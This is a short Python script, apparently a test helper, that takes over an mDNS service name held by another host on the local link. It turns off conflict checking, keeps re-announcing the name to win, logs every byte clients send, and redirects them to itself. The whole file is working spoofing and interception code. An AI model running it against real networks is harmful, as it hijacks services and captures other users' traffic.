# SPDX-License-Identifier: Apache-2.0
"""rogue_server.py PORT FILE NAME ADDRESS: takes the name of a server on the link, and records its input.

Announces the service NAME at PORT of ADDRESS although another host has that name, accepts connections at PORT of every
address, and appends to FILE every byte that it receives. Answers requests with a redirect to itself. Prints `ready`.
Exits at the end of its input.
"""

import asyncio
import os
import socket
import sys
import threading
import time

from zeroconf import ServiceInfo, Zeroconf

TYPE = "_Relativity_DataService_rosdk._tcp.local."
ANSWER = b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://%s:%d/bin\r\nContent-Length: 0\r\n\r\n"


def announce(port, name, address):
    service = ServiceInfo(
        TYPE, f"{name}.{TYPE}", port=port, server="rogue.local.", addresses=[socket.inet_aton(address)]
    )
    # A cooperating responder does not check whether the name is taken.
    zeroconf = Zeroconf(interfaces=[address])
    zeroconf.register_service(service, strict=False, cooperating_responders=True)
    return zeroconf, service


def insist(zeroconf, service):
    """The owner defends the name, so this program repeats its announcement and wins the conflict."""
    while True:
        time.sleep(1)  # the pause that multicast DNS wants between two announcements
        zeroconf.update_service(service)


async def main(port, path):
    with open(path, "ab", buffering=0) as record:

        async def serve(reader, writer):
            host, own = writer.get_extra_info("sockname")[:2]
            record.write(b"connection\n")
            try:
                while data := await reader.read(65536):
                    record.write(data)
                    writer.write(ANSWER % (host.encode(), own))
                    await writer.drain()
            except ConnectionError:
                pass
            writer.close()

        await asyncio.start_server(serve, "0.0.0.0", port)
        print("ready", flush=True)
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
        os._exit(0)


if __name__ == "__main__":
    claim = announce(int(sys.argv[1]), sys.argv[3], sys.argv[4])
    threading.Thread(target=insist, args=claim, daemon=True).start()
    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
